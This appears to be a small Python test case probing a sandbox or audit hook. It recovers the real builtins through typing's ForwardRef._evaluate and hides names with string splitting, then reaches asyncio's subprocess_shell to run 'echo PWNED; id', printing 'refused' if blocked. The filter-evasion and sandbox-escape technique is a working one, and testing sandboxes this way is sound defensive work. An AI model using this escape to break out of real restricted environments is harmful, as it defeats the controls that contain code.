# proc: loop.subprocess_shell reached by a computed name (subprocess.Popen event)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
async def main():
    loop = asyncio.get_running_loop()
    f = ga(loop, "subprocess_" + "shell")
    tr, pr = await f(asyncio.SubprocessProtocol, "echo PWN''ED; id", stdout=None, stderr=None)
    await asyncio.sleep(0.5)
try:
    asyncio.run(main())
except Exception as e:
    print("refused:", type(e).__name__, e)
